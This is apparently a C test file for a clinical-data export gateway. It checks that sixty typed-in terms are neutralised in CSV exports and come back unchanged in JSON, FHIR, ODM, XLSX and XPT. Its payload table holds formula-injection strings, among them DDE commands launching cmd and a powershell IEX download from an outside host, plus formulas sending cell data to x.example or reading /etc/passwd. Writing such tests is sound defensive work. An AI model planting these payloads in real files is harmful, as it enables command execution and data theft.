/*
 * Row SEC-6: sixty texts that somebody typed for a spreadsheet to run, through every export and back.
 *
 * In CSV they get an apostrophe, whichever of two readers opens the file; in the other formats a text is a text and
 * comes back to the letter. What is a number stays one.
 */
#include "gateway/core/csv.h"
#include "sinks/export_desk.h"
#include "support/program.h"

/* `guarded`: it gets an apostrophe in CSV. */
static const struct {
    const char *text;
    bool guarded;
} payloads[] = {
    {"=1+1", true},
    {"=cmd|' /C calc'!A0", true},
    {"=cmd|'/c powershell IEX(wget 0r.pe/p)'!A1", true},
    {"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", true},
    {"=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", true},
    {"=IMPORTDATA(\"http://x.example/a\")", true},
    {"=IMAGE(\"http://x.example/a.png\")", true},
    {"=WEBSERVICE(\"http://x.example/\")", true},
    {"=DDE(\"cmd\",\"/C calc\",\"x\")", true},
    {"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", true},
    {"=rundll32|'URL.dll,OpenURL calc.exe'!A", true},
    {"=SUM(1;2)", true},
    {"={1,2}", true},
    {"==1+1", true},
    {"= 1+1", true},
    {"=", true},
    {"=\"a\"&\"b\"", true},
    {"='file:///etc/passwd'#$passwd.A1", true},
    {"=INDIRECT(\"R1C1\")", true},
    {"=T(1)%0A", true},
    {"+1+1", true},
    {"+cmd|' /C calc'!A0", true},
    {"++1", true},
    {"+", true},
    {"+A1", true},
    {"-1+1", true},
    {"-cmd|' /C calc'!A0", true},
    {"--1", true},
    {"-2.5", true}, /* a text, whatever it looks like */
    {"-", true},
    {"@SUM(1,1)", true},
    {"@A1", true},
    {"@", true},
    {"\t=1+1", true},
    {"\t", true},
    {"\t\t=1+1", true},
    {"\r=1+1", true},
    {"\r\n=1+1", true},
    {"\n=1+1", true},
    {"\n", true},
    {"\xef\xbc\x9d" /* full-width = + - @ */
     "1+1",
     true},
    {"\xef\xbc\x8b"
     "1+1",
     true},
    {"\xef\xbc\x8d"
     "1+1",
     true},
    {"\xef\xbc\xa0SUM(1)", true},
    {"\xef\xbc\x9d", true},
    {"\xef\xbc\xa1" /* a full-width letter */
     "bc",
     false},
    {"a=1+1", false},
    {" =1+1", false},
    {"'=1+1", false},
    {"''=1+1", false},
    {"1;=1+1", false},
    {"\"=1+1\"", false},
    {"\";=1+1", false},
    {"a,=1+1", false},
    {"a\n=1+1", false},
    {"a\r\n=1+1\r\n", false},
    {"a\t=1+1", false},
    {"(=1+1)", false},
    {"<script>=1+1</script>", false},
    {"_x003D_1+1", false}, /* an escape of workbooks */
};

enum { PAYLOADS = sizeof payloads / sizeof *payloads };

/* An event of each term, and a value that is below 0. */
static void open_study(struct desk *desk)
{
    struct gw_rows none = {0}, rows = {0};

    desk_init(desk);
    for (int i = 0; i < PAYLOADS; i++) {
        struct gw_row_ae_episodes *row =
            export_row(desk, &rows, GW_TABLE_ae_episodes, gw_arena_print(&desk->arena, "a%02d", i));
        row->ae_id = row->row_id;
        row->onset = "2024-02-14";
        row->term = payloads[i].text;
    }
    export_value(desk, &rows, "o1", "T30-01", "ANC")->value_num = "-0.5";
    desk_apply(desk, "ES-017", &none, &rows, 0);
    desk_close(desk);
}

/* What every reader below prints: a line a cell, its bytes in hexadecimal, in the order of the events. */
#define PRINT_CELLS "for cell in cells: print(cell.encode().hex())\n"

#define READ_CSV(file, column)                                                                                         \
    "import csv\n"                                                                                                     \
    "with open('" file "', newline='', encoding='utf-8') as f: cells = [r['" column                                    \
    "'] for r in csv.DictReader(f)]\n" PRINT_CELLS

#define READ_DATASET                                                                                                   \
    "import json\n"                                                                                                    \
    "d = json.load(open('AE.json', encoding='utf-8'))\n"                                                               \
    "at = [c['name'] for c in d['columns']].index('AETERM')\n"                                                         \
    "cells = [row[at] for row in d['rows']]\n" PRINT_CELLS

#define READ_FHIR                                                                                                      \
    "import json\n"                                                                                                    \
    "cells = [json.loads(l)['event']['text'] for l in open('AdverseEvent.ndjson', newline='\\n', "                     \
    "encoding='utf-8')]\n" PRINT_CELLS

#define READ_ODM                                                                                                       \
    "import xml.etree.ElementTree as et\n"                                                                             \
    "cells = [e.get('Value') for e in et.parse('odm.xml').iter() if e.get('ItemOID') == 'IT.AE.AETERM'\n"              \
    "         and e.get('Value') is not None]\n" PRINT_CELLS

/* The column of AETERM on its sheet; a formula anywhere ends it. */
#define READ_XLSX                                                                                                      \
    "import re, xml.etree.ElementTree as et, zipfile\n"                                                                \
    "n = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'\n"                                              \
    "z = zipfile.ZipFile('listings.xlsx')\n"                                                                           \
    "names = [s.get('name') for s in et.fromstring(z.read('xl/workbook.xml')).iter(n + 'sheet')]\n"                    \
    "assert not any('<f>' in z.read(f).decode() for f in z.namelist()), 'a formula'\n"                                 \
    "sheet = et.fromstring(z.read('xl/worksheets/sheet%d.xml' % (names.index('AE') + 1)))\n"                           \
    "rows = [{re.sub('[0-9]', '', c.get('r')): ''.join(c.itertext()) for c in r} for r in sheet.iter(n + 'row')]\n"    \
    "at = next(k for k, v in rows[0].items() if v == 'AETERM')\n"                                                      \
    "plain = lambda t: re.sub('_x([0-9A-F]{4})_', lambda m: chr(int(m[1], 16)), t)\n"                                  \
    "cells = [plain(r[at]) for r in rows[1:]]\n" PRINT_CELLS

/* Records of fixed length behind the header of observations; AETERM by the offsets of the variables before it. */
#define READ_XPT                                                                                                       \
    "import struct\n"                                                                                                  \
    "b = open('ae.xpt', 'rb').read()\n"                                                                                \
    "names = b.index(b'HEADER RECORD*******NAMESTR') \n"                                                               \
    "count = int(b[names + 54:names + 58])\n"                                                                          \
    "fields = [b[names + 80 + 140 * i:names + 220 + 140 * i] for i in range(count)]\n"                                 \
    "at = {f[8:16].decode().strip(): (struct.unpack('>i', f[84:88])[0], struct.unpack('>h', f[4:6])[0]) for f in "     \
    "fields}\n"                                                                                                        \
    "size = sum(length for _, length in at.values())\n"                                                                \
    "rows = b[b.index(b'HEADER RECORD*******OBS') + 80:]\n"                                                            \
    "offset, length = at['AETERM']\n"                                                                                  \
    "cells = [rows[i * size + offset:i * size + offset + length].decode().rstrip(' ') for i in "                       \
    "range(60)]\n" PRINT_CELLS

enum keeping { GUARDED, WHOLE, ASCII };

static const struct {
    const char *format, *reader;
    enum keeping keeping;
} exports[] = {
    {"csv", READ_CSV("ae_episodes.csv", "term"), GUARDED},
    {"sdtm", READ_CSV("AE.csv", "AETERM"), GUARDED},
    {"dataset-json", READ_DATASET, WHOLE},
    {"fhir", READ_FHIR, WHOLE},
#if GATEWAY_ODM
    {"odm", READ_ODM, WHOLE},
#endif
#if GATEWAY_XLSX
    {"xlsx", READ_XLSX, WHOLE},
#endif
#if GATEWAY_XPT
    {"xpt", READ_XPT, ASCII},
#endif
};

static bool is_printable(const char *text)
{
    for (; *text; text++)
        if (*text < ' ' || *text > '~')
            return false;
    return true;
}

static void print_expected(size_t payload, enum keeping keeping, struct gw_text *out)
{
    const char *text = payloads[payload].text;

    if (keeping == ASCII && !is_printable(text))
        text = ""; /* left empty, and told in unfit.csv */
    if (keeping == GUARDED && payloads[payload].guarded)
        gw_text_add(out, "27");
    for (; *text; text++)
        gw_text_print(out, "%02x", (unsigned char)*text);
    gw_text_add(out, "\n");
}

Test(payloads, SEC_6_are_texts_in_every_export)
{
    struct desk desk;

    open_study(&desk);
    for (size_t e = 0; e < sizeof exports / sizeof *exports; e++) {
        const char *dir = export_dir(&desk, exports[e].format);
        struct gw_text expected = GW_TEXT_INIT(1 << 16);
        struct program run;
        size_t unfit = 0;

        DESK_OK(&desk, gw_export_folder(desk.path, exports[e].format, dir, &unfit, &desk.err));
        for (size_t i = 0; i < PAYLOADS; i++)
            print_expected(i, exports[e].keeping, &expected);
        program_run(&run, dir, (const char *[]){"/usr/bin/python3", "-c", exports[e].reader, NULL});
        cr_expect(run.code == 0, "%s: %s", exports[e].format, run.err);
        cr_expect(strcmp(run.out, expected.at) == 0, "%s:\n%s\nwanted\n%s", exports[e].format, run.out, expected.at);
        cr_expect((unfit > 0) == (exports[e].keeping == ASCII), "%s: %zu do not fit", exports[e].format, unfit);
        program_release(&run);
        gw_text_release(&expected);
    }
    desk_release(&desk);
}

/* Our own reader is the second one. */
static void expect_cells(struct desk *desk, const char *path, const char *column)
{
    struct gw_csv csv;

    DESK_OK(desk, gw_csv_load(&desk->arena, path, 1 << 20, &csv, &desk->err));
    cr_assert(csv.count == PAYLOADS, "%s: %zu", path, csv.count);
    for (size_t i = 0; i < PAYLOADS; i++) {
        const char *cell = csv.records[i].fields[gw_csv_column(&csv, column)], *text = payloads[i].text;

        cr_expect(!payloads[i].guarded || cell[0] == '\'', "%s", text);
        cr_expect(strcmp(cell + payloads[i].guarded, text) == 0, "%s: %s", text, cell);
    }
}

Test(payloads, SEC_6_are_guarded_for_our_own_reader_of_CSV_too_and_numbers_are_not)
{
    struct desk desk;
    struct gw_csv csv;

    open_study(&desk);
    expect_cells(&desk, gw_arena_print(&desk.arena, "%s/AE.csv", export_to(&desk, "sdtm", "sdtm")), "AETERM");
    expect_cells(&desk, gw_arena_print(&desk.arena, "%s/ae_episodes.csv", export_to(&desk, "csv", "csv")), "term");
    const char *values = gw_arena_print(&desk.arena, "%s/LB.csv", export_dir(&desk, "sdtm"));
    DESK_OK(&desk, gw_csv_load(&desk.arena, values, 1 << 20, &csv, &desk.err));
    cr_expect(strcmp(csv.records[0].fields[gw_csv_column(&csv, "LBSTRESN")], "-0.5") == 0);
    desk_release(&desk);
}
